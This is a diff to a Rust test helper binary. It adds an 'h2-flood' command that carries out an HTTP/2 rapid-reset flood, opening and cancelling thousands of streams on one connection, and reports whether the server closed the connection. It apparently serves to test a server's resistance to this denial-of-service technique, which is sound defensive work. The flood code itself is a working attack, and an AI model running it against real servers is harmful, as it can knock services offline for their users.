@@ -16,6 +16,9 @@
 //! `grpc-check --addr A --service S`: one Health/Check call, prints
 //! `{"status": ...}` or `{"error": code, "message": ...}`.
 //! `grpc-watch --addr A --service S`: the first Health/Watch message.
+//! `h2-flood --addr A --streams N`: an HTTP/2 "rapid reset" flood on one
+//! connection (open a stream, reset it at once, N times); prints
+//! `{"opened": n, "closed_by_server": bool, "error": ...}`.
 
 use std::convert::Infallible;
 use std::net::SocketAddr;
@@ -75,6 +78,7 @@ async fn run(args: Vec<String>) -> Result<()> {
         Some("serve") => serve(&args).await,
         Some("grpc-check") => grpc_check(&args).await,
         Some("grpc-watch") => grpc_watch(&args).await,
+        Some("h2-flood") => h2_flood(&args).await,
         other => bail!("unknown command {other:?}: use serve, grpc-check or grpc-watch"),
     }
 }
@@ -320,5 +324,73 @@ async fn grpc_watch(args: &[String]) -> Result<()> {
         Err(s) => json!({ "error": format!("{:?}", s.code()), "message": s.message() }),
     };
     println!("{out}");
+    Ok(())
+}
+
+async fn h2_flood(args: &[String]) -> Result<()> {
+    let addr = arg(args, "--addr").context("--addr")?;
+    let n: u64 = arg(args, "--streams")
+        .unwrap_or_else(|| "10000".into())
+        .parse()?;
+    let tcp = tokio::time::timeout(
+        Duration::from_secs(5),
+        tokio::net::TcpStream::connect(&addr),
+    )
+    .await
+    .context("connect timed out")??;
+    let (send, conn) = h2::client::handshake(tcp).await?;
+    let driver = tokio::spawn(conn);
+    let mut opened = 0u64;
+    let mut error = String::new();
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
+    let mut send = Some(send);
+    while opened < n && tokio::time::Instant::now() < deadline {
+        let Some(s) = send.take() else { break };
+        let mut s = match tokio::time::timeout(Duration::from_secs(5), s.ready()).await {
+            Ok(Ok(s)) => s,
+            Ok(Err(e)) => {
+                error = e.to_string();
+                break;
+            }
+            Err(_) => {
+                error = "timed out waiting for stream capacity".into();
+                break;
+            }
+        };
+        let req = Request::get(format!("http://{addr}/who")).body(())?;
+        match s.send_request(req, true) {
+            Ok((resp, mut stream)) => {
+                stream.send_reset(h2::Reason::CANCEL);
+                drop(resp);
+                opened += 1;
+                send = Some(s);
+            }
+            Err(e) => {
+                error = e.to_string();
+                break;
+            }
+        }
+        // Let the connection task write and read between streams.
+        if opened % 64 == 0 {
+            tokio::task::yield_now().await;
+        }
+    }
+    // Keep our side open: only the server can end the connection now.
+    let closed = tokio::time::timeout(Duration::from_secs(5), driver).await;
+    drop(send);
+    let closed_by_server = match &closed {
+        Ok(Ok(Err(e))) => {
+            if error.is_empty() {
+                error = e.to_string();
+            }
+            true
+        }
+        Ok(Ok(Ok(()))) => true,
+        _ => false,
+    };
+    println!(
+        "{}",
+        json!({ "opened": opened, "closed_by_server": closed_by_server, "error": error })
+    );
     Ok(())
 }
